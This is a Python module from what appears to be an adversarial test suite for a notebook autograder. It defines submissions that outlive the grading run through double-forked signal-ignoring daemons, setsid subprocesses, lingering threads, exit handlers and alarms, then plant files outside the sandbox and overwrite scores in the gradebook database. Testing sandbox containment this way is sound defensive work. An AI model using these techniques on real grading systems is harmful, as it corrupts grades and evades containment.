"""What goes on after the last cell: daemons, threads, exit handlers, alarms."""

from handed_in.attack import attack
from handed_in.notebooks import NUMBER_ONE, cheat

BOMB = """
import os
import time
from pathlib import Path


def bomb(seconds=2):
    time.sleep(seconds)
    for place in ({outside!r}, {course!r}, "/dev/shm"):
        try:
            (Path(place) / "planted-by-attack.txt").write_text("planted")
        except OSError:
            pass
    try:
        import sqlite3
        book = sqlite3.connect({database!r}, timeout=5)
        book.execute("update grade set manual_score = 4")
        book.commit()
    except Exception:
        pass


"""


def _bomb(name, says, code):
    @attack(name, says, earns=6.0, alone=True)
    def _(world):
        database = str(world.course / "gradebook.db")
        bomb = BOMB.format(outside=str(world.outside), course=str(world.course), database=database)
        return cheat(bomb + code, NUMBER_ONE)


_bomb(
    "daemon",
    "Leaves a daemon behind: two forks, a session of its own, every signal ignored",
    """
import signal
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(1, 32):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        bomb(8)
        time.sleep(60)
    os._exit(0)
""",
)
_bomb(
    "subprocess",
    "Leaves a shell behind with `nohup` and `setsid`",
    """
import subprocess
try:
    subprocess.Popen(["nohup", "setsid", "sleep", "70"], start_new_session=True, stdout=subprocess.DEVNULL)
except OSError as error:
    print(type(error).__name__)
""",
)
_bomb(
    "thread",
    "Leaves a thread behind that waits for the end and is no daemon",
    "import threading\nthreading.Thread(target=bomb, args=(1,), daemon=False).start()",
)
_bomb(
    "exit-handler",
    "Registers exit handlers and finalisers",
    """
import atexit
import weakref


class Last:
    def __del__(self):
        bomb(0)


last = Last()
atexit.register(bomb, 0)
weakref.finalize(last, bomb, 0)
""",
)
_bomb(
    "alarm",
    "Sets an alarm and timers of the event loop for after the last cell",
    """
import asyncio
import signal
signal.signal(signal.SIGALRM, lambda *parts: bomb(0))
signal.alarm(1)
try:
    asyncio.get_event_loop().call_later(1, bomb, 0)
except Exception as error:
    print(type(error).__name__)
""",
)
